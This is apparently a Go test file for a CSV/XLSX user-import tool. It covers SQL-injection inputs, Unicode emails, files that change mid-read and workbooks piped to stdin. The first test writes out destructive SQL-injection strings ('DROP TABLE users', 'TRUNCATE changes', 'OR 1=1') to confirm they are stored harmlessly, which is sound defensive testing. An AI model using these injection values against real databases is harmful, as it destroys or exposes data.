	header := "Email,First Name,Last Name,Display Name,Username,PBX,Status,Home Organization,CC Role,Copy Privileges From\n"
	rows := []string{
		`x'or'1'='1@acme.example,` + inj + `,"Robert""); DELETE FROM batches; --",1' OR '1'='1,bobby'; TRUNCATE changes; --,paris,,,,`,
		`pbx@acme.example,,,,,` + inj + `,,,,`,
		`status@acme.example,,,,,paris,` + inj + `,,,`,
		`home@acme.example,,,,,paris,,` + inj + `,,`,
		`ccrole@acme.example,,,,,paris,,,` + inj + `,`,
		`copy@acme.example,,,,,paris,,,,` + inj,
	}
	return badInput{
		name: "SQLInEveryTextColumn", file: "sql.csv", write: fileOf(header + strings.Join(rows, "\n") + "\n"),
		exit: 3, db: applied, created: []string{"x'or'1'='1@acme.example"},
		absent: []string{"pbx@acme.example", "status@acme.example", "home@acme.example", "ccrole@acme.example", "copy@acme.example"},
		stdout: []string{
			`(?m)^sql\.csv:3: PBX: R-PBX: "x'\); DROP TABLE users; --" is not a PBX of acme`,
			`(?m)^sql\.csv:4: Status: R-STATUS: "x'\); DROP TABLE users; --" is not a status`,
			`(?m)^sql\.csv:5: Home Organization: R-EXT-ORG: `,
			`(?m)^sql\.csv:6: CC Role: R-CC-ROLE: "x'\); DROP TABLE users; --" is not a CC role of acme`,
			`(?m)^sql\.csv:7: Copy Privileges From: R-`,
		},
		check: func(t *testing.T, db *sqlx.DB, _ string) {
			var u struct {
				First, Last, Display, Username string
			}
			noErr(t, db.Get(&u, `SELECT first_name AS first, last_name AS last, display_name AS display, username FROM users WHERE email = $1`,
				"x'or'1'='1@acme.example"))
			if u.First != inj || u.Last != `Robert"); DELETE FROM batches; --` || u.Display != `1' OR '1'='1` || u.Username != `bobby'; TRUNCATE changes; --` {
				t.Errorf("stored %+v", u)
			}
			var n int
			noErr(t, db.Get(&n, `SELECT (SELECT count(*) FROM batches) + (SELECT count(*) FROM changes)`))
			if n < 2 {
				t.Errorf("batches or changes were emptied")
			}
		},
	}
}

// unicodeEmail: emails are trimmed and lower-cased with Unicode case
// rules, so a differently cased spelling is the same user.
func unicodeEmail() badInput {
	return badInput{
		name: "EmailUnicodeAndOddCase", file: "unicode.csv",
		write: fileOf(inputHeader +
			"  ŁUKASZ.Wójcik-Nowy@ACME.Example ,Łukasz,Wójcik,warsaw\n" +
			"łukasz.wójcik-nowy@acme.example,Łukasz,Wójcik,warsaw\n" +
			"MARIE.DUBOIS@Acme.Example,Marie,,\n" +
			"STRAẞE@acme.example,Anna,Straße,paris\n" +
			"\u1C89@acme.example,Tje,,paris\n"),
		exit: 3, db: applied, created: []string{"łukasz.wójcik-nowy@acme.example", "straße@acme.example"},
		absent: []string{"\u1C89@acme.example"},
		stdout: []string{
			`(?m)^unicode\.csv: 5 rows: 2 created, 0 updated, 1 unchanged, 2 rejected\n`,
			`(?m)^unicode\.csv:3: Email: R-DUP-EMAIL: łukasz\.wójcik-nowy@acme\.example is also in row 2`,
			`(?m)^unicode\.csv:6: Email: R-EMAIL: "\\u1c89@acme\.example" holds the character U\+1C89 at character 1, which ccbulk cannot compare without regard to case \(it is not a letter, digit, punctuation mark or symbol of Unicode [0-9.]+\); write the address as name@example\.com$`,
		},
	}
}

// fileChangesWhileRead: the import waits for the tenant's lock (held by
// the test) after it has opened and started reading the file; the test
// appends a row meanwhile. The run must refuse the file, not import a mix.
func fileChangesWhileRead() badInput {
	var lockConn *sqlx.Conn
	return badInput{
		name: "FileChangesWhileRead", file: "moving.csv", write: fileOf(inputHeader + good1), exit: 1,
		extra: []string{"--lock-wait", "60s"},
		before: func(t *testing.T, tn *demoTenant) {
			ctx := context.Background()
			var err error
			lockConn, err = tn.db.Connx(ctx)
			noErr(t, err)
			t.Cleanup(func() { lockConn.Close() })
			_, err = lockConn.ExecContext(ctx, `SELECT pg_advisory_lock(hashtextextended('ccbulk:' || 'acme', 0))`)
			noErr(t, err)
		},
		during: func(t *testing.T, h *runningImport) {
			ctx := context.Background()
			deadline := time.Now().Add(30 * time.Second)
			for {
				var waiting bool
				noErr(t, h.tn.db.Get(&waiting, `SELECT EXISTS (SELECT 1 FROM pg_stat_activity WHERE datname = current_database()
					AND query LIKE 'SELECT pg_try_advisory_lock%')`))
				if waiting {
					break
				}
				if h.cmd.ProcessState != nil || time.Now().After(deadline) {
					t.Fatal("the import never waited for the lock")
				}
				time.Sleep(20 * time.Millisecond)
			}
			f, err := os.OpenFile(filepath.Join(h.dir, "moving.csv"), os.O_APPEND|os.O_WRONLY, 0)
			noErr(t, err)
			_, err = f.WriteString(good2)
			noErr(t, err)
			noErr(t, f.Close())
			_, err = lockConn.ExecContext(ctx, `SELECT pg_advisory_unlock(hashtextextended('ccbulk:' || 'acme', 0))`)
			noErr(t, err)
		},
		stderr: []string{`^ccbulk: moving\.csv: F-FORMAT: the file changed while it was being read \(it was replaced, or its size or modification time changed\); nothing was applied: import it again once it is complete\n$`},
	}
}

// oleFile is the start of an OLE2 compound file, as an Excel 97-2003
// workbook begins: what ccbulk says depends only on these magic bytes.
func oleFile() string {
	return "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1" + strings.Repeat("\x00", 504)
}

// zipOf returns a zip archive holding the named files, in the order of
// their sorted names except that a "mimetype" entry comes first.
func zipOf(t *testing.T, files map[string]string) string {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	names := make([]string, 0, len(files))
	for name := range files {
		names = append(names, name)
	}
	slices.SortFunc(names, func(a, b string) int {
		if a == "mimetype" {
			return -1
		}
		if b == "mimetype" {
			return 1
		}
		return strings.Compare(a, b)
	})
	for _, name := range names {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: name, Method: zip.Store})
		noErr(t, err)
		_, err = w.Write([]byte(files[name]))
		noErr(t, err)
	}
	noErr(t, zw.Close())
	return buf.String()
}

// odsFile returns the bones of an OpenDocument spreadsheet: its first
// entry, mimetype, names the format.
func odsFile(t *testing.T) string {
	return zipOf(t, map[string]string{
		"mimetype":              "application/vnd.oasis.opendocument.spreadsheet",
		"content.xml":           `<?xml version="1.0" encoding="UTF-8"?><office:document-content/>`,
		"META-INF/manifest.xml": `<?xml version="1.0" encoding="UTF-8"?><manifest:manifest/>`,
	})
}

// twoSheetWorkbook returns a workbook whose first sheet, Users, lists
// new.one and whose second, People, lists new.two.
func twoSheetWorkbook(t *testing.T) []byte {
	t.Helper()
	book := excelize.NewFile()
	defer book.Close()
	noErr(t, book.SetSheetName("Sheet1", "Users"))
	_, err := book.NewSheet("People")
	noErr(t, err)
	header := []any{"Email", "First Name", "Last Name", "PBX"}
	noErr(t, book.SetSheetRow("Users", "A1", &header))
	noErr(t, book.SetSheetRow("Users", "A2", &[]any{"new.one@acme.example", "New", "One", "paris"}))
	noErr(t, book.SetSheetRow("People", "A1", &header))
	noErr(t, book.SetSheetRow("People", "A2", &[]any{"new.two@acme.example", "New", "Two", "paris"}))
	var buf bytes.Buffer
	noErr(t, book.Write(&buf))
	return buf.Bytes()
}

// reportIsXLSX checks that the run wrote its report, an XLSX workbook, at
// name in the work directory.
func reportIsXLSX(name string) func(*testing.T, *sqlx.DB, string) {
	return func(t *testing.T, _ *sqlx.DB, dir string) {
		b, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatalf("no report: %v", err)
		}
		if !bytes.HasPrefix(b, []byte("PK\x03\x04")) {
			t.Errorf("%s is not an XLSX workbook: starts with %q", name, b[:min(len(b), 16)])
		}
	}
}

// xlsxOnStdin imports a workbook piped to standard input: it is read as
// XLSX, its report is stdin.report.xlsx, and the batch records the SHA-256
// of the bytes piped.
func xlsxOnStdin(book []byte) badInput {
	return badInput{name: "XLSXOnStdin", file: "-", stdin: pipeOf(string(book)),
		exit: 3, db: applied, created: []string{"new.one@acme.example"},
		stdout: []string{`(?m)^<stdin>: 2 rows: 1 created, 0 updated, 0 unchanged, 1 rejected$`, `(?m)^<stdin>:3: Email: R-EMAIL`},
		check: func(t *testing.T, db *sqlx.DB, dir string) {
			reportIsXLSX("stdin.report.xlsx")(t, db, dir)
			var sha string
			noErr(t, db.Get(&sha, `SELECT file_sha256 FROM batches ORDER BY id DESC LIMIT 1`))
			if want := fmt.Sprintf("%x", sha256.Sum256(book)); sha != want {
				t.Errorf("the batch records SHA-256 %s, want %s (of the workbook piped)", sha, want)
			}
		}}
}
